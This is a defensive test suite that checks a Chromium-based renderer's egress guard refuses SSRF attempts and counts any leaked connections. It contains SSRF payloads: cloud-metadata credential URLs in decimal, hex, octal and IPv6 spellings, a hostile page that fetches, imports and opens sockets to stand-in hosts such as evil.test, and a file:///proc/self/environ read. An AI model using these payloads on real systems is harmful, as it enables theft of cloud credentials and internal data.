/**
 * SSRF with real Chromium: a hostile site on 127.0.0.1 (the one allowlisted host:port) tries to make
 * the renderer reach the instance metadata endpoint in every spelling, the Lambda runtime API, a
 * private service on another loopback port, names that resolve inside, through redirects, scripts,
 * iframes, workers, WebSockets, service workers, EventSource, beacons and WebRTC. Every attempt must
 * be refused by the egress guard before any connection: the test dialer refuses (and records) any
 * connection outside 127.0.0.0/8, and the private service counts its visitors.
 */
import dgram from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig, type Config } from '../../lib/config/config';
import type { EgressEvent } from '../../lib/net/egress-proxy';
import { Renderer } from '../../lib/render/browser';
import { isNonRetryable } from '../../lib/util/errors';
import { serveRoutes, type TestServer } from '../helpers/http-server';
import { hostileResolver, loopbackOnlyDialer } from './hostile';

let site: TestServer;
let privateService: TestServer;
let udp: dgram.Socket;
let udpPackets = 0;
let renderer: Renderer;
let config: Config;
const dialer = loopbackOnlyDialer();
const resolver = hostileResolver();
const events: EgressEvent[] = [];
const reports = new Set<string>();
let P = 0;
let Q = 0;
let U = 0;

const ATTEMPTS = ['fetch-metadata', 'fetch-decimal', 'fetch-runtime-api', 'fetch-mapped', 'fetch-evil', 'xhr-intranet', 'ws-metadata', 'ws-port-80', 'ws-runtime-api', 'wss-evil', 'worker', 'service-worker', 'eventsource', 'beacon', 'webrtc', 'dynamic-import'];

function hostilePage(): string {
  return `<!doctype html><html><head><title>Hostile</title>
<script>
const report = (name) => fetch('/report?name=' + name).catch(() => {});
const attempt = (name, run) => { try { Promise.resolve().then(run).then(() => report(name), () => report(name)); } catch (e) { report(name); } };
const wsTry = (url) => new Promise((res, rej) => { const w = new WebSocket(url); w.onopen = res; w.onerror = rej; });
attempt('fetch-metadata', () => fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/', { mode: 'no-cors' }));
attempt('fetch-decimal', () => fetch('http://2852039166/latest/meta-data/', { mode: 'no-cors' }));
attempt('fetch-runtime-api', () => fetch('http://127.0.0.1:${Q}/2018-06-01/runtime/invocation/next', { mode: 'no-cors' }));
attempt('fetch-mapped', () => fetch('http://[::ffff:127.0.0.1]:${Q}/', { mode: 'no-cors' }));
attempt('fetch-evil', () => fetch('http://evil.test:${Q}/', { mode: 'no-cors' }));
attempt('xhr-intranet', () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open('GET', 'http://10.0.0.1/'); x.onload = res; x.onerror = rej; x.send(); }));
attempt('ws-metadata', () => wsTry('ws://169.254.169.254/'));
attempt('ws-port-80', () => wsTry('ws://10.9.9.9/'));
attempt('ws-runtime-api', () => wsTry('ws://127.0.0.1:${Q}/'));
attempt('wss-evil', () => wsTry('wss://evil.test/'));
attempt('worker', () => new Promise((res, rej) => { const w = new Worker('/worker.js'); w.onmessage = res; w.onerror = rej; }));
attempt('service-worker', () => navigator.serviceWorker.register('/sw.js'));
attempt('eventsource', () => new Promise((res, rej) => { const es = new EventSource('http://metadata.test/events'); es.onopen = res; es.onerror = () => { es.close(); rej(); }; }));
attempt('beacon', () => navigator.sendBeacon('http://192.168.1.1/beacon', 'x'));
attempt('webrtc', async () => {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${U}' }] });
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((r) => setTimeout(r, 1500));
  pc.close();
});
attempt('dynamic-import', () => import('http://evil.test:${Q}/module.js'));
</script></head>
<body><h1>A perfectly normal article</h1><p>Nothing to see here, just words in a paragraph.</p>
<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>
<iframe src="https://metadata6.test/latest/"></iframe>
<img src="http://10.0.0.1/pixel.png"><img src="http://[fd00:ec2::254]/latest/meta-data/">
<link rel="stylesheet" href="http://100.64.0.1/style.css">
<iframe src="/sw-frame"></iframe>
<iframe src="${holdOrigin}/hold"></iframe>
</body></html>`;
}

beforeAll(async () => {
  privateService = await serveRoutes({
    '/': { body: 'internal admin' },
    '/2018-06-01/runtime/invocation/next': { body: '{"secret":"lambda event"}', type: 'application/json' },
    '/module.js': { body: 'export default 1', type: 'text/javascript' },
  });
  Q = Number(new URL(privateService.origin).port);
  udp = dgram.createSocket('udp4');
  udp.on('message', () => udpPackets++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', () => r()));
  U = (udp.address() as AddressInfo).port;

  const redirect = (to: string) => ({ status: 302, body: '', headers: { location: to } });
  site = await serveRoutes({
    '/article': { body: '<!doctype html><html><head><title>Fine</title></head><body><h1>Fine page</h1><p>Words.</p></body></html>' },
    '/redirect': (req) => redirect(new URL(req.url!, 'http://x').searchParams.get('to')!),
    '/chain1': redirect('/chain2'),
    '/chain2': redirect('/chain3'),
    '/chain3': redirect('http://metadata.test/latest/meta-data/'),
    '/js-redirect': { body: `<!doctype html><html><head><title>Later</title></head><body><h1>Loaded</h1><p>Then gone.</p><script>onload = () => setTimeout(() => { location.href = 'http://169.254.169.254/latest/meta-data/'; }, 0);</script></body></html>` },
    '/meta-refresh': { body: `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://10.0.0.1/"><title>Refresh</title></head><body><p>x</p></body></html>` },
    '/js-file': { body: `<!doctype html><html><head><title>File</title></head><body><h1>Reads files?</h1><p>No.</p><script>location.href = 'file:///proc/self/environ';</script></body></html>` },
    '/hostile': () => ({ body: hostilePage() }),
    '/worker.js': {
      type: 'text/javascript',
      body: `Promise.allSettled([fetch('http://169.254.169.254/latest/meta-data/'), fetch('http://evil.test:${Q}/'),
        new Promise((res, rej) => { const w = new WebSocket('ws://127.0.0.1:${Q}/'); w.onopen = res; w.onerror = rej; })]).then(() => postMessage('done'));`,
    },
    '/sw.js': { type: 'text/javascript', body: `self.addEventListener('fetch', () => fetch('http://169.254.169.254/'));` },
    '/sw-frame': { body: `<!doctype html><p>frame</p><script>navigator.serviceWorker.register('/sw2.js').catch(() => {});</script>` },
    '/sw2.js': { type: 'text/javascript', body: `self.addEventListener('fetch', () => fetch('http://169.254.169.254/'));` },
    '/report': (req) => {
      reports.add(new URL(req.url!, 'http://x').searchParams.get('name')!);
      return { body: 'ok', type: 'text/plain' };
    },
  });
  // /hold answers once every attempt has reported (or after 8 s): the page's load event waits for it.
  const hold = async () => {
    for (let i = 0; i < 80 && ATTEMPTS.some((a) => !reports.has(a)); i++) await new Promise((r) => setTimeout(r, 100));
  };
  const original = site;
  P = Number(new URL(original.origin).port);
  const holder = await serveHold(hold);
  holdOrigin = holder.origin;
  site = { ...original, close: async () => { await holder.close(); await original.close(); } };

  config = loadConfig({ allowHosts: [`127.0.0.1:${P}`, `127.0.0.1:${Number(new URL(holdOrigin).port)}`], allowNetworks: [], allowPorts: [], navigationTimeoutMs: 15_000, renderTimeoutMs: 30_000 });
  renderer = new Renderer(config, { resolver, dial: dialer.dial, onEgress: (e) => events.push(e) });
});

let holdOrigin = '';
async function serveHold(wait: () => Promise<void>): Promise<TestServer> {
  const http = await import('node:http');
  const server = http.createServer(async (_req, res) => {
    await wait();
    res.writeHead(200, { 'content-type': 'text/html' }).end('<p>held</p>');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits: new Map(),
    close: () => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }),
  };
}

afterAll(async () => {
  await renderer?.close();
  await site?.close();
  await privateService?.close();
  udp?.close();
});

const PAYLOADS: [string, string, RegExp][] = [
  ['metadata endpoint', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', /169\.254\.169\.254 is a link-local/],
  ['metadata, decimal', 'http://2852039166/latest/meta-data/', /169\.254\.169\.254 is a link-local/],
  ['metadata, hex', 'http://0xa9fea9fe/latest/meta-data/', /169\.254\.169\.254 is a link-local/],
  ['metadata, octal', 'http://0251.0376.0251.0376/latest/meta-data/', /169\.254\.169\.254 is a link-local/],
  ['metadata, IPv4-mapped IPv6', 'http://[::ffff:169.254.169.254]/latest/meta-data/', /link-local/],
  ['metadata, IPv6 fd00:ec2::254', 'http://[fd00:ec2::254]/latest/meta-data/', /unique-local/],
  ['metadata over https', 'https://169.254.169.254/latest/meta-data/', /link-local/],
  ['Lambda runtime API 127.0.0.1:9001', 'http://127.0.0.1:9001/2018-06-01/runtime/invocation/next', /port 9001 of 127\.0\.0\.1 is not allowed/],
  ['a private service on another loopback port', 'http://127.0.0.1:{Q}/', /port \d+ of 127\.0\.0\.1 is not allowed/],
  ['localhost', 'http://localhost/', /^(?!.*(127\.0\.0\.1|169\.254|10\.1\.2\.3)).*localhost was refused: it resolves to an address that is not public/],
  ['a name resolving to 127.0.0.1', 'http://evil.test/', /^(?!.*(127\.0\.0\.1|169\.254|10\.1\.2\.3)).*evil\.test was refused/],
  ['a name resolving to the metadata endpoint', 'http://metadata.test/latest/meta-data/', /^(?!.*(127\.0\.0\.1|169\.254|10\.1\.2\.3)).*metadata\.test was refused/],
  ['a name with a public-looking and a private answer', 'http://mixed.test/', /^(?!.*(127\.0\.0\.1|169\.254|10\.1\.2\.3)).*mixed\.test was refused/],
  ['RFC 1918 10/8', 'http://10.0.0.1/', /private/],
  ['RFC 1918 192.168/16', 'http://192.168.1.1/admin', /private/],
  ['carrier-grade NAT (Alibaba metadata)', 'http://100.100.100.200/latest/meta-data/', /metadata|carrier/],
  ['unspecified 0.0.0.0', 'http://0.0.0.0/', /unspecified/],
  ['IPv6 loopback', 'http://[::1]/', /loopback/],
  ['multicast', 'http://224.0.0.1/', /multicast/],
];

describe('SSRF payloads as the submitted URL and as a redirect target (real Chromium)', () => {
  it.each(PAYLOADS)('%s: refused with the reason, nothing dialled outside loopback', async (_name, template, reason) => {
    const payload = template.replace('{Q}', String(Q));
    const direct = await renderer.render({ url: payload }).catch((e: Error) => e);
    expect(direct).toBeInstanceOf(Error);
    expect(isNonRetryable(direct)).toBe(true);
    expect((direct as Error).message).toMatch(/blocked by the egress guard/);
    expect((direct as Error).message).toMatch(reason);

    // The same destination as the target of a redirect from the allowed site: Chromium follows it,
    // the proxy refuses the hop.
    const viaRedirect = await renderer.render({ url: `${site.origin}/redirect?to=${encodeURIComponent(payload)}` }).catch((e: Error) => e);
    expect(viaRedirect).toBeInstanceOf(Error);
    expect(isNonRetryable(viaRedirect)).toBe(true);
    expect((viaRedirect as Error).message).toMatch(reason);
    expect(dialer.outside).toEqual([]);
    expect(privateService.hits.size).toBe(0);
  });
});

describe('hostile pages (real Chromium)', () => {
  it('a redirect chain ending at a name that resolves to the metadata endpoint', async () => {
    const error = await renderer.render({ url: `${site.origin}/chain1` }).catch((e: Error) => e);
    expect(isNonRetryable(error)).toBe(true);
    expect((error as Error).message).toMatch(/metadata\.test was refused/);
    expect((error as Error).message).not.toContain('169.254.169.254'); // what an internal name resolves to is not revealed (issue 18, item 4)
    expect(site.hits.get('/chain3')).toBeGreaterThanOrEqual(1); // the chain was followed up to the bad hop
  });

  it('a JavaScript redirect after load to the metadata endpoint', async () => {
    const error = await renderer.render({ url: `${site.origin}/js-redirect` }).catch((e: Error) => e);
    expect(isNonRetryable(error)).toBe(true);
    expect((error as Error).message).toMatch(/169\.254\.169\.254 is a link-local/);
  });

  it('a meta refresh to a private address', async () => {
    const error = await renderer.render({ url: `${site.origin}/meta-refresh` }).catch((e: Error) => e);
    expect(isNonRetryable(error)).toBe(true);
    expect((error as Error).message).toMatch(/10\.0\.0\.1 is a private/);
  });

  it('documents from file:, data:, chrome: and javascript: URLs are refused; a page cannot navigate to file:', async () => {
    for (const url of ['file:///proc/self/environ', 'data:text/html,<h1>x</h1>', 'chrome://version', 'javascript:alert(1)']) {
      const error = await renderer.render({ url }).catch((e: Error) => e);
      expect(isNonRetryable(error), url).toBe(true);
      expect((error as Error).message).toMatch(/scheme is not allowed/);
    }
    for (const to of ['file:///proc/self/environ', 'data:text/html,<h1>data</h1>']) {
      const error = await renderer.render({ url: `${site.origin}/redirect?to=${encodeURIComponent(to)}` }).catch((e: Error) => e);
      expect(error, to).toBeInstanceOf(Error);
      expect(isNonRetryable(error), to).toBe(true);
      // the scheme is named when Chromium reported the redirect's response before the failure
      expect((error as Error).message).toMatch(/a redirect to a non-http\(s\) URL .*is not followed/);
    }
    // A script navigating to file: stays on its page (Chromium will not load local files): nothing of the file is read.
    const result = await renderer.render({ url: `${site.origin}/js-file` });
    expect(result.finalUrl).toBe(`${site.origin}/js-file`);
    expect(result.snapshot).not.toMatch(/PATH=|AWS_|HOME=/);
  });

  it('subresources, iframes, fetch, XHR, a worker, WebSockets, EventSource, beacons, import(), WebRTC and a service worker are all refused below the page', async () => {
    const result = await renderer.render({ url: `${site.origin}/hostile` });
    // The page itself renders: what it tried to reach did not.
    expect(result.collected.blocks.map((b) => b.text)).toContain('A perfectly normal article');
    expect([...reports].sort()).toEqual([...ATTEMPTS].sort());

    const refused = new Set(events.filter((e) => e.kind === 'refused').map((e) => `${e.host}:${e.port}`));
    for (const target of [
      '169.254.169.254:80', // fetch, iframe, WebSocket (CONNECT), worker's fetch
      `127.0.0.1:${Q}`, // the private service: fetch, WebSocket, the worker's WebSocket
      `[::ffff:7f00:1]:${Q}`, // IPv4-mapped loopback
      `evil.test:${Q}`, // name → 127.0.0.1: fetch, import(), the worker's fetch
      'evil.test:443', // wss://
      '10.0.0.1:80', // XHR, image
      'metadata.test:80', // EventSource
      'metadata6.test:443', // an https iframe whose name resolves to fd00:ec2::254
      '192.168.1.1:80', // sendBeacon
      '[fd00:ec2::254]:80', // image
      '100.64.0.1:80', // stylesheet
      '10.9.9.9:80', // a ws:// URL without a port is checked as port 80, the port it asked for (issue 18, item 3)
    ]) {
      expect(refused.has(target), `${target} refused (refused: ${[...refused].join(', ')})`).toBe(true);
    }
    expect(site.hits.get('/worker.js')).toBe(1); // the worker ran, its requests were refused
    expect(site.hits.get('/sw.js')).toBeUndefined(); // a service worker could not even register
    expect(site.hits.get('/sw-frame')).toBe(1);
    expect(site.hits.get('/sw2.js')).toBeUndefined(); // nor from a frame
    expect(privateService.hits.size).toBe(0);
    expect(udpPackets).toBe(0); // WebRTC sent no STUN over UDP outside the proxy
    expect(dialer.outside).toEqual([]);
    expect(dialer.dialled.every((d) => d.startsWith('127.0.0.1:'))).toBe(true);
  });

  it('the allowed site still renders normally', async () => {
    const result = await renderer.render({ url: `${site.origin}/article` });
    expect(result.collected.blocks.map((b) => b.text)).toEqual(['Fine page', 'Words.']);
  });
});
